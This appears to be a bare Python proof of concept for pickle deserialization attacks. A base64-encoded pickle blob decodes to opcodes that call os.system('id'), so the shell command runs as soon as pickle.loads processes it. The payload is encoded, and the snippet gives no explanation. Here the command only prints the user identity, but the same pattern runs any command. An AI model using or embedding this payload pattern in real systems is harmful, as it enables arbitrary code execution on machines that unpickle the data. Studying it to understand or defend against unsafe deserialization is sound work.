import pickle, base64
blob = "Y29zCnN5c3RlbQooUydpZCcKdFIu"
obj = pickle.loads(base64.b64decode(blob))
